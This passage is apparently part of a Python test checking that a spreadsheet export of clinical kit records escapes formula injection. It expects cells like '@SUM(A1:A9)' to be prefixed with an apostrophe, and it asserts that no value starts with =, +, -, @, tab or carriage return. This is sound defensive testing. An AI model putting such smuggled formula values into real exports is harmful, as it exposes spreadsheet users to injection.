    assert rows[0]["location"] == "'" + payload
    assert rows[0]["kit_lots"] == "'@SUM(A1:A9)"
    assert rows[0]["product_key"] == prod["identifier"] and rows[0]["patient_record_number"] == "P1"
    assert rows[0]["reagent_lots"] == "AC-77" and rows[0]["performer"] == "nurse"
    assert not any(v.startswith(("=", "+", "-", "@", "\t", "\r")) for r in rows for v in r.values())
